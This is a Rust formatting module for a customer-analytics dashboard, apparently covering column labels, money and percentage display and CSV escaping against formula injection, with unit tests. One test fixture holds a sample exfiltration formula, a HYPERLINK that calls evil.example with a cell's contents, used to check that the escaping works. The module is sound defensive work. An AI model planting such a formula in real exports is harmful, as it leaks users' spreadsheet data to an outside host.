//! How values look on the pages and in CSV headers: human-readable column labels, money with
//! thousands separators, percentages, dates.

use serde_json::Value;

/// Columns holding money (DECIMAL).
const MONEY: &[&str] = &[
    "credit_limit",
    "lifetime_value",
    "avg_transaction_value",
    "spend_last_90_days",
    "spend_prior_90_days",
    "avg_monthly_spend",
    "transaction_amount",
    "monthly_spend",
    "avg_ltv",
    "total_ltv",
    "spend",
    "spend_90d",
    "spend_prior_90d",
    "value",
];

/// Columns holding percentages (0–100).
const PERCENT: &[&str] = &[
    "spend_change_pct",
    "travel_spend_pct",
    "necessities_spend_pct",
    "credit_utilization_pct",
    "high_risk_pct",
    "approval_rate",
    "share_pct",
];

/// Human-readable label of a column (CSV headers, table headers).
pub fn label(column: &str) -> String {
    let known = match column {
        "customer_id" => "Customer ID",
        "customer_key" => "Customer Key",
        "full_name" => "Full Name",
        "first_name" => "First Name",
        "last_name" => "Last Name",
        "email" => "Email",
        "age" => "Age",
        "state" => "State",
        "city" => "City",
        "employment_status" => "Employment Status",
        "card_type" => "Card Type",
        "credit_limit" => "Credit Limit ($)",
        "account_open_date" => "Account Open Date",
        "account_age_days" => "Account Age (days)",
        "customer_segment" => "Segment",
        "segment_assigned_date" => "Segment Assigned",
        "tenure_months" => "Tenure (months)",
        "total_transactions" => "Total Transactions",
        "lifetime_value" => "Lifetime Value ($)",
        "avg_transaction_value" => "Avg Transaction Value ($)",
        "first_transaction_date" => "First Transaction",
        "last_transaction_date" => "Last Transaction",
        "spend_last_90_days" => "Spend Last 90 Days ($)",
        "spend_prior_90_days" => "Spend Prior 90 Days ($)",
        "spend_change_pct" => "Spend Change (%)",
        "avg_monthly_spend" => "Avg Monthly Spend ($)",
        "travel_spend_pct" => "Travel Spend (%)",
        "necessities_spend_pct" => "Necessities Spend (%)",
        "days_since_last_transaction" => "Days Since Last Transaction",
        "recency_status" => "Recency",
        "spending_profile" => "Spending Profile",
        "credit_utilization_pct" => "Credit Utilization (%)",
        "churn_risk_score" => "Churn Risk Score",
        "churn_risk_category" => "Churn Risk",
        "top_churn_drivers" => "Top Churn Drivers",
        "eligible_for_retention_campaign" => "Retention Eligible",
        "eligible_for_onboarding_campaign" => "Onboarding Eligible",
        "eligible_for_premium_campaign" => "Premium Eligible",
        "next_best_action" => "Next Best Action",
        "profile_updated_date" => "Profile Date",
        "transaction_id" => "Transaction ID",
        "transaction_date" => "Date",
        "transaction_ts" => "Time",
        "merchant_name" => "Merchant",
        "category" => "Category",
        "channel" => "Channel",
        "status" => "Status",
        "transaction_amount" => "Amount ($)",
        "valid_from" => "Valid From",
        "valid_to" => "Valid To",
        "is_current" => "Current",
        _ => "",
    };
    if !known.is_empty() {
        return known.to_string();
    }
    column
        .split('_')
        .filter(|w| !w.is_empty())
        .map(|w| {
            let mut c = w.chars();
            match c.next() {
                Some(first) => first.to_uppercase().collect::<String>() + c.as_str(),
                None => String::new(),
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// Whether `column` holds money.
pub fn is_money(column: &str) -> bool {
    MONEY.contains(&column)
}

/// Whether `column` holds a percentage.
pub fn is_percent(column: &str) -> bool {
    PERCENT.contains(&column) || column.ends_with("_pct")
}

/// `1234567.891` → `1,234,567.89` (text arithmetic on the exact value; half away from zero).
pub fn money_text(exact: &str) -> String {
    use std::str::FromStr;
    match rust_decimal::Decimal::from_str(exact) {
        Ok(d) => group(
            &d.round_dp_with_strategy(2, rust_decimal::RoundingStrategy::MidpointAwayFromZero)
                .to_string(),
            2,
        ),
        Err(_) => exact.to_string(),
    }
}

/// Adds thousands separators to a plain decimal string, padding to `decimals` places.
fn group(plain: &str, decimals: usize) -> String {
    let (sign, digits) = match plain.strip_prefix('-') {
        Some(rest) => ("-", rest),
        None => ("", plain),
    };
    let (int, frac) = digits.split_once('.').unwrap_or((digits, ""));
    let mut out = String::new();
    for (i, c) in int.chars().enumerate() {
        if i > 0 && (int.len() - i) % 3 == 0 {
            out.push(',');
        }
        out.push(c);
    }
    if decimals > 0 {
        let mut frac = frac.to_string();
        while frac.len() < decimals {
            frac.push('0');
        }
        out.push('.');
        out.push_str(&frac[..decimals]);
    }
    format!("{sign}{out}")
}

/// A count with thousands separators.
pub fn count_text(n: i64) -> String {
    group(&n.to_string(), 0)
}

/// How `value` of `column` is shown in a table cell.
pub fn cell(column: &str, value: &Value) -> String {
    match value {
        Value::Null => "—".to_string(),
        Value::Bool(b) => if *b { "Yes" } else { "No" }.to_string(),
        Value::String(s) if is_money(column) => format!("${}", money_text(s)),
        Value::String(s) => s.clone(),
        Value::Number(n) if is_money(column) => format!("${}", money_text(&n.to_string())),
        Value::Number(n) if is_percent(column) => {
            format!("{:.1}%", n.as_f64().unwrap_or(0.0))
        }
        Value::Number(n) => match n.as_i64() {
            Some(i) => count_text(i),
            None => format!("{:.2}", n.as_f64().unwrap_or(0.0)),
        },
        other => other.to_string(),
    }
}

/// How `value` of `column` is written in CSV (exact, no separators; text passed through
/// [`csv_text`]).
pub fn csv_cell(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(s) => csv_text(s),
        Value::Bool(b) => b.to_string(),
        other => other.to_string(),
    }
}

/// Text as a CSV cell a spreadsheet will not run: a cell starting with `=`, `+`, `-`, `@`, a tab
/// or a carriage return is prefixed with a single quote (OWASP's advice against CSV formula
/// injection), so `=HYPERLINK(…)` arrives as the text `'=HYPERLINK(…)`. Plain numbers
/// (`-1000.00`, `-31.5`) are left alone: a spreadsheet reads them as numbers, not formulas.
/// Every CSV the server writes goes through this (cells and headers, see
/// `pages::csv_response`).
pub fn csv_text(text: &str) -> String {
    let risky = matches!(
        text.chars().next(),
        Some('=' | '+' | '-' | '@' | '\t' | '\r')
    );
    if risky && !is_plain_number(text) {
        format!("'{text}")
    } else {
        text.to_string()
    }
}

/// `-123`, `-123.45`: an optional minus, digits, an optional fraction; nothing else.
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix('-').unwrap_or(text);
    let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
    !int.is_empty()
        && !frac.is_empty()
        && int.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn money_is_grouped_exactly() {
        assert_eq!(money_text("1234567.891"), "1,234,567.89");
        assert_eq!(money_text("-1000"), "-1,000.00");
        assert_eq!(money_text("0.005"), "0.01");
        assert_eq!(money_text("100"), "100.00");
        assert_eq!(
            cell("lifetime_value", &Value::String("80000".into())),
            "$80,000.00"
        );
        assert_eq!(cell("churn_risk_score", &serde_json::json!(71.25)), "71.25");
        assert_eq!(
            cell("spend_change_pct", &serde_json::json!(-31.0)),
            "-31.0%"
        );
        assert_eq!(count_text(50000), "50,000");
    }

    #[test]
    fn csv_cells_never_start_a_formula() {
        let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
        assert_eq!(csv_text(formula), format!("'{formula}"));
        for risky in [
            "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "-1.", "-.5", "-1e5",
        ] {
            assert!(csv_text(risky).starts_with('\''), "{risky:?}");
        }
        for safe in ["Jane Doe", "-1000.00", "-31", "12.5", "", "a=b", "'already"] {
            assert_eq!(csv_text(safe), safe);
        }
        assert_eq!(csv_cell(&Value::String("=1+1".into())), "'=1+1");
        assert_eq!(csv_cell(&serde_json::json!(-31.5)), "-31.5");
    }

    #[test]
    fn labels_are_human() {
        assert_eq!(label("lifetime_value"), "Lifetime Value ($)");
        assert_eq!(label("some_new_column"), "Some New Column");
    }
}
